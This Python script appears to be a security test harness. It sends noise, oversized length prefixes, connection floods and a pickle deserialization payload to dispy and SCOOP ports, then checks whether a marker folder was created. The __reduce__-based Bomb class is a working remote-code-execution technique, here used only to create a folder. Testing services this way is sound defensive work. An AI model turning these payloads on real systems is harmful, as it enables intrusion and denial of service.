"""What a stranger on the hosts' network does to ports; runs on a host, apart from this project.

    python stranger.py PLACES MARK

PLACES is a file with [[address, port, [recorded bytes as hex, ...]], ...]. Who unpickles what is
sent makes the folder MARK. How many connections were made is printed.
"""

from __future__ import annotations

import json
import os
import pickle
import socket
import struct
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from pathlib import Path

# What dispy and SCOOP call their messages.
DISPY = (b"PING:", b"PONG:", b"COMPUTE:", b"JOB:", b"JOB_REPLY:", b"TERMINATED:", b"CLOSE:")
SCOOP = (b"I", b"RQ", b"T", b"RP", b"S", b"V", b"B", b"SR", b"SA", b"SD", b"SU", b"C")
SILENT = 20
HEAR = 0.1


class Bomb:
    """What leaves a mark where it is unpickled."""

    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (self.mark,)


def messages(mark: str) -> Iterator[bytes]:
    """Noise, lengths that nobody has memory for, and pickles in the forms that engines know."""
    yield os.urandom(4096)
    yield b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
    yield b'{"setup": {}}\n[1, 0, 1, 1, 0.0]\n'
    yield struct.pack(">L", 1 << 30) + b"x" * 4096
    yield struct.pack(">Q", 1 << 62) + b"x" * 4096
    bomb = pickle.dumps(Bomb(mark))
    yield bomb
    for kind in DISPY:
        text = kind + bomb
        yield b"x" * 40 + struct.pack(">L", len(text)) + text


def send(address: str, port: int, data: bytes) -> int:
    """One connection: say something, and hear what comes for a moment; 1 where it came about."""
    try:
        with socket.create_connection((address, port), 2) as connection:
            connection.settimeout(HEAR)
            with suppress(OSError):
                connection.sendall(data)
                connection.recv(1 << 16)
    except OSError:
        return 0
    return 1


def send_as_scoop(address: str, port: int, mark: str) -> None:
    """Every kind of message that SCOOP knows, over ZeroMQ."""
    import zmq

    evil = pickle.dumps(Bomb(mark))
    context = zmq.Context()
    dealer = context.socket(zmq.DEALER)
    dealer.sndtimeo = 500
    dealer.connect(f"tcp://{address}:{port}")
    with suppress(zmq.Again):  # one whose handshake was refused takes no more
        for kind in SCOOP:
            for count in range(5):
                dealer.send_multipart([kind, *[evil] * count])
    time.sleep(0.5)
    context.destroy(100)


def visit(address: str, port: int, recorded: list[str], mark: str) -> int:
    """All of it, to one place; how many connections came about."""
    with ExitStack() as silent:
        made = 0
        for _ in range(SILENT):
            with suppress(OSError):
                silent.enter_context(socket.create_connection((address, port), 2))
                made += 1
        for data in (*messages(mark), *map(bytes.fromhex, recorded)):
            made += send(address, port, data)
        send_as_scoop(address, port, mark)
    return made


def main() -> None:
    """To all places at the same time."""
    file, mark = sys.argv[1:]
    places: list[tuple[str, int, list[str]]] = json.loads(Path(file).read_text())
    with ThreadPoolExecutor(max(1, len(places))) as pool:
        visits = [pool.submit(visit, *place, mark) for place in places]
        made = sum(each.result() for each in visits)
    sys.stdout.write(f"{made}\n")


if __name__ == "__main__":
    main()
